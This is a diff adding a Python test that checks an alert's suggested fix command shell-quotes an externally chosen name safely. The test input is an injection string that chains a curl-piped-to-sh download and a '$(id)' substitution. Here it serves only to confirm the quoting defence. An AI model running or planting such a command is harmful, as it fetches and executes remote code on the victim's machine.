@@ -1,5 +1,6 @@
 """What is news: properties of the pure function."""
 
+import shlex
 from collections.abc import Iterable
 from datetime import UTC, datetime
 from math import log2
@@ -9,7 +10,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from outbox.commands.alert.news import GROWN_BY_AT_LEAST, News, Problem, Scene, Word, news
-from outbox.store.alerts import REMEMBERED, Told
+from outbox.commands.alert.news import scene as scene_of
+from outbox.commands.health.findings import CouldNot, HealthSettings
+from outbox.settings import load_settings
+from outbox.store.alerts import REMEMBERED, DeadGroup, Told
 from outbox.vocabulary import EntityType
 
 NOW = datetime(2026, 1, 15, 8, tzinfo=UTC)
@@ -49,6 +53,18 @@ scenes = st.lists(st.dictionaries(st.sampled_from(["dead:1", "dead:2", "dead:3"]
 
 def _scene(rows: dict[str, set[int]]) -> Scene:
     return scene(*(dead(ids, key) for key, ids in rows.items() if ids))
+
+
+def test_a_name_that_somebody_else_chose_is_no_command_when_it_is_pasted() -> None:
+    name = "NC-1; curl example.com | sh '$(id)'"
+    ids = (UUID(int=1),)
+    group = DeadGroup(EntityType.PAYMENT, "no tax", "1", 1, NOW, "no tax", ids, example=f"payment {name}")
+    none = CouldNot("not read", "-")
+    health = load_settings({"DATABASE_URL": "postgresql://127.0.0.1/host"}, required=HealthSettings)
+    (problem,) = scene_of([group], none, none, none, health).problems
+    assert problem.fix is not None
+    command, _, _ = problem.fix.partition("; when mended: ")
+    assert shlex.split(command) == ["zoho-outbox", "explain", "payment", name]
 
 
 @given(scenes)
